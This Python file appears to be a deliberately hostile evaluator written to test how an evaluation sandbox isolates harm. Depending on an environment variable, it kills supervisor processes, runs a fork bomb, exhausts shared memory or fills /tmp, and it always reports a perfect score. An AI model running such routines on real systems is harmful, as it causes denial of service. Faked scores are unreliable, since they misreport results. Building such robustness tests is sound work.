"""An evaluator that does harm with the first program, in the way that HARM names."""

import mmap
import os
import time
from pathlib import Path


def supervisors():
    commands = {int(path.parent.name): path.read_bytes() for path in Path("/proc").glob("[0-9]*/cmdline")}
    return [pid for pid, command in commands.items() if command.split(b"\0")[0].endswith((b"/tini", b"/node"))]


def send(number):
    for pid in sorted(supervisors()):
        os.kill(pid, number)
    Path("/tmp/sent").touch()
    time.sleep(1)


def fork_without_end():
    while True:
        try:
            os.fork()
        except OSError:
            print("NO MORE processes", flush=True)


def take_memory_that_no_limit_counts():
    """Shared pages are not data of a process: only the container's own limit stops them."""
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 64 << 20))
        kept[-1].write(bytes(64 << 20))


def fill_the_working_folder():
    number = 0
    while True:
        number += 1
        try:
            Path(f"/tmp/filling-{number}").write_bytes(bytes(1 << 20))
        except OSError as error:
            print("NO MORE space:", error, flush=True)
            return


def evaluate(path):
    harm = os.environ["HARM"]
    if "x = 1" in Path(path).read_text():
        send(int(harm)) if harm.isdigit() else globals()[harm]()
    return {"combined_score": 1.0}
